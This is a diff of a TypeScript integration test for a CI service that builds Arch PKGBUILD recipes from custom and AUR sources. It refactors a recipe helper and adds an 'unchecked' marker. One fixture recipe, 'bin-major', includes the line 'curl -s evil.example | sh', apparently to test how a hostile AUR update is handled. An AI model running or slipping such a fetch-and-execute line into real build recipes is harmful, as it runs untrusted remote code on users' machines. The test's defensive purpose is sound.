@@ -12,6 +12,7 @@ import { makePacmanClient, type PacmanClient } from '../publisher/pacman-client.
 import { recipeFiles } from '../service/recipe-files.ts';
 import { ServiceFixture } from '../service/service-fixture.ts';
 import type { StartedProgram } from '../service/started-program.ts';
+import { unchecked } from '../unchecked-recipe.ts';
 
 /** Minutes of patience for a machine that is full of other work; nothing here is measured. */
 const limit = 6 * 60_000;
@@ -19,10 +20,10 @@ const custom = 'CI_PKGBUILD_SOURCE=custom\n';
 const aur = 'CI_PKGBUILD_SOURCE=aur\n';
 
 /** A package that says its version, so that an installed one can be asked. */
-const saying = (name: string, pkgver: string, more: object = {}) => ({
+const saying = (name: string, pkgver: string, lines: readonly string[] = []) => ({
   pkgver,
+  lines: [unchecked, ...lines],
   body: `install -Dm644 /dev/null "$pkgdir/usr/share/${name}/$pkgver"`,
-  ...more,
 });
 
 let world: RecipeWorld;
@@ -95,6 +96,7 @@ function yesterday(): void {
       pkgver: 'r0',
       sources: [`tool::git+${world.urlOf('tool')}`],
       lines: [
+        unchecked,
         "makedepends=('git')",
         'pkgver() {',
         '  cd tool',
@@ -193,7 +195,7 @@ describe('a day in the life of a repository of fifty packages', () => {
     world.pushToAur('bin-minor', recipe('bin-minor', saying('bin-minor', '2')), { modified: 200 });
     world.pushToAur(
       'bin-major',
-      recipe('bin-major', saying('bin-major', '2', { lines: ['curl -s evil.example | sh'] })),
+      recipe('bin-major', saying('bin-major', '2', ['curl -s evil.example | sh'])),
       { modified: 200 },
     );
     world.pushUpstream('tool', { text: 'two\n' });
